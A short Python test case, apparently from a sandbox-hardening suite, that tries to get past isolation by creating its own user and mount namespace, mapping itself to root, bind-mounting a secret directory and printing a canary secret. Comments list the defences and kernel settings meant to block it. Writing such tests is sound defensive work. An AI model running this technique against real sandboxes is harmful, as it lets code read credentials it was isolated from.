# says: Mounts the state elsewhere in a user namespace of its own.
# stopped by: vault + seccomp
# proof: canary
# source: mount namespaces
# kernel: user.max_user_namespaces=0 kernel.unprivileged_userns_clone=0 kernel.apparmor_restrict_unprivileged_userns=1
import os

from attack import call

uid, gid = os.getuid(), os.getgid()
call("unshare", 0x10020000)
open("/proc/self/setgroups", "w").write("deny")
open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
open("/proc/self/gid_map", "w").write(f"0 {gid} 1")
os.mkdir("elsewhere")
call("mount", os.environ["SECRET_DIR"], "elsewhere", None, 0x5000, None)
print(open("elsewhere/" + os.environ["SECRET"].rpartition("/")[2]).read())
